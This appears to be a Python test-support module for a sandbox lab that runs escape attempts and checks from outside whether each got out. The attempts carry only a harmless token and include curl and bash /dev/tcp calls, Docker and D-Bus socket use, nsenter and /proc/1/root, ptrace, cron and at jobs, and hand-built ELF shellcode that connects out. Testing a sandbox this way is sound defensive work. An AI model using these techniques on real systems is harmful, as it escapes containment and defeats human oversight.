"""Programs that try to leave the guard, one a case, each with what shows that it got out.

The same program runs with the guard and without it; only the token differs that it carries out.
"""

import socket
import struct
import subprocess
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from support.lab.guard_outside import DOCKER, NAME_SERVICE, PORT, RAW_PROTOCOL, RESOLVER, Outside

__all__ = ["FOLDER", "Program", "programs", "shows"]

FOLDER = "/var/lib/guard-lab"
"""Where steps may write: a file that is made here by somebody outside is a way out."""

_CRON_S = 70.0
_TEXT_BYTES = 64
# Assembled once: socket, connect, write, exit; 7 when it could not connect. The places of the
# address and the text are the last 80 bytes.
_STATIC = bytes.fromhex(
    "b829000000bf02000000be0100000031d20f0589c7488d3544000000ba10000000b82a000000570f055f85c0781c"
    "488d353b000000ba40000000b8010000000f0531ffb83c0000000f05bf07000000b83c0000000f05662e0f1f8400"
    "00000000"
)
_THIRTY_TWO = bytes.fromhex(
    "6690669066906690669066906a006a016a0289e1bb01000000b866000000cd8089c66a1068c08004085689e1bb03"
    "000000b866000000cd8085c0781c89f3b9d0800408ba40000000b804000000cd8031dbb801000000cd80bb070000"
    "00b801000000cd808db4260000000090"
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Program:
    """A case: its argv for a token, what a violation of it says, and how one sees from outside.

    `told` is empty where nothing is trapped: the effect must be impossible. `within_s` is how long
    a success may take to show.
    """

    case: str
    argv: Callable[[str], Sequence[str]]
    reached: Callable[[str], bool]
    told: tuple[str, ...] = ()
    within_s: float = 2.0


def programs(outside: Outside, victim: int) -> list[Program]:
    """Return every case. `victim` is a process of this host that may be traced."""
    where = f"{outside.address}:{PORT}"
    url = f"http://{where}"
    heard = outside.has_heard

    def net(case: str, argv: Callable[[str], Sequence[str]], *told: str) -> Program:
        return Program(case=case, argv=argv, reached=heard, told=told)

    return [
        net("curl by address", lambda t: _curl(f"{url}/{t}"), f"connect {where}", "curl"),
        net("curl by name", lambda t: _curl(f"http://{t}.test:{PORT}/"), "name on-", "curl"),
        net("getaddrinfo", lambda t: _python(f"import socket; socket.getaddrinfo('{t}.test', 80)"),
            "resolve name", "python3"),
        net("resolver socket", lambda t: _python(_say_unix(RESOLVER, t)), f"connect {RESOLVER}"),
        net("name-service daemon", lambda t: _python(_say_unix(NAME_SERVICE, t)),
            f"connect {NAME_SERVICE}"),
        net("container engine socket",
            lambda t: ["/usr/bin/curl", "-s", "--unix-socket", DOCKER, f"http://engine.test/{t}"],
            f"connect {DOCKER}"),
        net("raw socket", lambda t: _python(_raw(t)), "socket inet raw"),
        net("UDP socket", lambda t: _python(_udp(outside.address, t)), f"sendto {where}"),
        net("IPv6 socket", lambda t: _curl(f"http://[::1]:{PORT}/{t}"), f"connect [::1]:{PORT}"),
        net("static binary", lambda t: _binary(t, _elf64(t)), f"connect 127.0.0.1:{PORT}"),
        net("double fork", lambda t: _python(_double_fork(f"{url}/{t}")), f"connect {where}",
            "curl"),
        net("nsenter -t 1 -n", lambda t: _shell(f"nsenter -t 1 -n curl -s {url}/{t}"), "setns",
            "nsenter"),
        net("declared step of a shell",
            lambda t: ["/bin/bash", "-c", f"echo {t} > /dev/tcp/{outside.address}/{PORT}"],
            f"connect {where}", "bash"),
        Program(case="io_uring", argv=lambda t: _python(_io_uring(t)), reached=_made,
                told=("io_uring_setup",)),
        Program(case="systemd-run",
                argv=lambda t: ["/usr/bin/systemd-run", "--wait", "/bin/touch", f"{FOLDER}/{t}"],
                reached=_made, told=("connect /run/", "systemd-run")),
        Program(case="D-Bus", argv=_set_environment, reached=_in_environment,
                told=("connect /run/dbus/system_bus_socket", "busctl")),
        Program(case="ptrace of a process outside", argv=lambda t: _python(_trace(victim, t)),
                reached=_made, told=("ptrace",)),
        Program(case="32-bit program", argv=lambda t: _binary(t, _elf32(t)), reached=heard),
        Program(case="/proc/1/root", argv=lambda t: _shell(f"echo out > /proc/1/root/run/{t}"),
                reached=lambda t: Path(f"/run/{t}").exists()),
        Program(case="cron file", within_s=_CRON_S, reached=_made, argv=lambda t: _shell(
            f"echo '* * * * * root touch {FOLDER}/{t}' > /etc/cron.d/{t}")),
        Program(case="at", argv=lambda t: _shell(f"echo touch {FOLDER}/{t} | at now"),
                reached=_made, within_s=_CRON_S),
    ]  # fmt: skip


def _made(token: str) -> bool:
    return Path(FOLDER, token).exists()


def _in_environment(token: str) -> bool:
    shown = subprocess.run(["systemctl", "show-environment"], capture_output=True, check=True)
    return token.encode() in shown.stdout


def _set_environment(token: str) -> list[str]:
    manager = ("org.freedesktop.systemd1", "/org/freedesktop/systemd1")
    call = ("org.freedesktop.systemd1.Manager", "SetEnvironment", "as", "1", f"GUARD={token}")
    return ["/usr/bin/busctl", "call", *manager, *call]


def _curl(url: str) -> list[str]:
    return ["/usr/bin/curl", "-s", "--max-time", "5", url]


def _shell(text: str) -> list[str]:
    return ["/bin/sh", "-c", text]


def _python(text: str) -> list[str]:
    return ["/usr/bin/python3", "-I", "-S", "-c", text]


def _say_unix(path: str, token: str) -> str:
    return (
        "import socket; s = socket.socket(socket.AF_UNIX); "
        f"s.connect('{path}'); s.sendall(b'{token}'); s.recv(9)"
    )


def _udp(address: str, token: str) -> str:
    return (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
        f"s.sendto(b'{token}', ('{address}', {PORT}))"
    )


def _raw(token: str) -> str:
    return (
        f"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, {RAW_PROTOCOL}); "
        f"s.sendto(b'{token}', ('127.0.0.1', 0))"
    )


def _double_fork(url: str) -> str:
    return (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv('/usr/bin/curl', ['curl', '-s', '{url}'])\n"
        "    os._exit(0)\n"
        "time.sleep(1)\n"
    )


def _io_uring(token: str) -> str:
    # What goes through a ring meets no filter, so that a ring is as good as a connection.
    return (
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "ring = libc.syscall(425, 1, ctypes.create_string_buffer(256))\n"
        "assert ring >= 0, ctypes.get_errno()\n"
        f"open('{FOLDER}/{token}', 'x')\n"
    )


def _trace(victim: int, token: str) -> str:
    return (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"assert libc.ptrace(16, {victim}, 0, 0) == 0, ctypes.get_errno()\n"
        f"os.waitpid({victim}, 0x40000000)\n"
        f"libc.ptrace(17, {victim}, 0, 0)\n"
        f"open('{FOLDER}/{token}', 'x')\n"
    )


def _binary(token: str, content: bytes) -> list[str]:
    path = Path(FOLDER, f"{token}.elf")
    path.write_bytes(content)
    path.chmod(0o755)
    return [str(path)]


def _payload(token: str) -> bytes:
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT) + b"\x7f\0\0\x01"
    return address.ljust(16, b"\0") + token.encode().ljust(_TEXT_BYTES, b"\n")


def _elf64(token: str) -> bytes:
    code = _STATIC + _payload(token)
    base, headers = 0x400000, 64 + 56
    size = headers + len(code)
    header = struct.pack("<16s2HI3QI6H", b"\x7fELF\x02\x01\x01", 2, 62, 1, base + headers, 64, 0, 0,
                         64, 56, 1, 0, 0, 0)  # fmt: skip
    return header + struct.pack("<2I6Q", 1, 7, 0, base, base, size, size, 0x1000) + code


def _elf32(token: str) -> bytes:
    code = _THIRTY_TWO + _payload(token)
    base, headers = 0x0804_8000, 52 + 32
    size = headers + len(code)
    header = struct.pack("<16s2HI3II6H", b"\x7fELF\x01\x01\x01", 2, 3, 1, base + headers, 52, 0, 0,
                         52, 32, 1, 0, 0, 0)  # fmt: skip
    return header + struct.pack("<8I", 1, 0, base, base, size, size, 7, 0x1000) + code


def shows(program: Program, token: str) -> bool:
    """Wait for the program's success to show; say whether it did."""
    until = time.monotonic() + program.within_s
    while not program.reached(token):
        if time.monotonic() > until:
            return False
        time.sleep(0.05)
    return True
